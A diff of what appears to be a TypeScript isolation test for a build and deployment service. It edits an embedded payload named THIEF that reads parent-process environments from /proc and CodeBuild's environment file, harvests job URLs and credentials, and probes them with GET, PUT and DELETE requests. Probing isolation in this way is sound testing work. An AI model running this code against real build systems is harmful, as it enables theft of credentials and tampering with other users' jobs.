@@ -27,7 +27,8 @@ async function deployWith(name: string, variables: Record<string, string>, comma
 const ROUNDS = 100;
 /**
  * Left behind by the install command. Looks a hundred times at its own environment, those of all processes above it (the
- * shell, npm, the builder), CodeBuild's copy of the environment and the credentials endpoint; and uses what it finds.
+ * shell, npm, the builder), CodeBuild's copy of the environment and the credentials endpoint; and uses what it finds. A later
+ * command, which has this source in its environment, may get the id of one that has ended: only addresses count.
  */
 const THIEF = `
 const { readFileSync, writeFileSync } = require('node:fs');
@@ -45,7 +46,7 @@ const ask = async (url, options, left = 5) => {
     for (const path of [...parents.map((pid) => '/proc/' + pid + '/environ'), '/codebuild/output/tmp/env.sh']) {
       const text = read(path);
       if (text !== '') found.read++;
-      for (const [, url] of text.matchAll(/JOB_URL=["']?([^\\0"'\\s]+)/g)) if (!found.urls.has(url)) {
+      for (const [, url] of text.matchAll(/JOB_URL=["']?(http[^\\0"'\\s]+)/g)) if (!found.urls.has(url)) {
         const answers = [];
         for (const method of ['GET', 'PUT', 'DELETE']) answers.push(await ask(url, { method, body: method === 'PUT' ? 'x' : undefined }));
         answers.push(await ask(url.replace(/jobs[/]dep_/, 'artifacts/app_1/dep_')), await ask(url.replace(/jobs[/]dep_/, 'jobs/dep_0')));
